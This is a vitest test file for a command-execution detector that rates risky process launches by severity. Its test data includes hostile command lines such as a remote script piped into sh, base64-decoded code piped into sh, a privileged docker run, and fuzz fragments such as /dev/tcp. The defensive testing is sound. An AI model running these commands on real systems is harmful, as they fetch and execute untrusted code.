import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { startThreadClock } from '../../core/testing/thread-clock.ts'
import { EXEC_RULES, judgeExec } from './all.ts'
import type { ExecFacts } from './rule.ts'
import { facts, words } from './testing/exec-facts.ts'
import { PROGRAM_ROWS } from './testing/program-rows.ts'
import { SHELL_ROWS } from './testing/shell-rows.ts'
import { TOOL_ROWS } from './testing/tool-rows.ts'

const rulesOf = (exec: ExecFacts): string[] => judgeExec(exec).map(({ rule }) => rule)

const ROWS = [...SHELL_ROWS, ...PROGRAM_ROWS, ...TOOL_ROWS]

test('every rule has its rows, and its reason', () => {
  expect(ROWS.map(({ rule }) => rule).toSorted()).toEqual(
    EXEC_RULES.map(({ name }) => name).toSorted(),
  )
  expect(EXEC_RULES.filter(({ reason }) => reason.length < 20)).toEqual([])
})

describe.for(ROWS)('exec.$rule', ({ rule, does, doesNot }) => {
  test.for(does.map((exec) => ({ exec, line: exec.argv.join(' ') })))('sees $line', ({ exec }) => {
    expect(rulesOf(exec)).toContain(`exec.${rule}`)
  })
  test.for(doesNot.map((exec) => ({ exec, line: exec.argv.join(' ') })))(
    'lets $line be',
    ({ exec }) => {
      expect(rulesOf(exec)).not.toContain(`exec.${rule}`)
    },
  )
})

test('findings come worst first, with what was executed', () => {
  expect(judgeExec(words('docker run --privileged x'))).toEqual([
    {
      rule: 'exec.namespace-entry',
      severity: 'high',
      subject: '/usr/bin/docker run --privileged x',
    },
  ])
  const both = facts(['sh', '-c', 'curl https://x.example/i | sh; echo aQ== | base64 -d | sh'])
  expect(judgeExec(both).map(({ severity }) => severity)).toEqual(['high', 'medium'])
})

test('a subject is short and well formed, whatever the arguments', () => {
  const [finding] = judgeExec(facts(['docker', `${'x'.repeat(283)}😀😀😀`]))
  expect(finding?.subject.length).toBe(300)
  expect(finding?.subject.isWellFormed()).toBe(true)
})

test('no arguments make it throw, or think for long', () => {
  const argument = fc.oneof(
    fc.string({ maxLength: 200, unit: 'binary' }),
    fc.constantFrom('-c', '-e', '|', 'sh', 'curl ', '/dev/tcp/', '"', "'", '\\', '$(', '`', '>&'),
  )
  const path = fc.constantFrom(
    '/usr/bin/bash',
    '/usr/bin/python3',
    '/usr/bin/find',
    '/bin/busybox',
    '',
  )
  fc.assert(
    fc.property(path, fc.array(argument, { maxLength: 20 }), (file, argv) => {
      judgeExec(facts(argv, { path: file }))
    }),
  )
  for (const piece of [
    'curl ',
    'base64 -d ',
    '$(base64 ',
    '/dev/tcp/ ',
    'exec( ',
    'a|',
    "'",
    '\\',
    '> ',
  ]) {
    for (const program of ['bash', 'python3', 'perl']) {
      const tookMs = startThreadClock()
      judgeExec(facts([program, '-c', piece.repeat(4096 / piece.length)]))
      expect(tookMs()).toBeLessThan(100) // mostly below 5
    }
  }
})
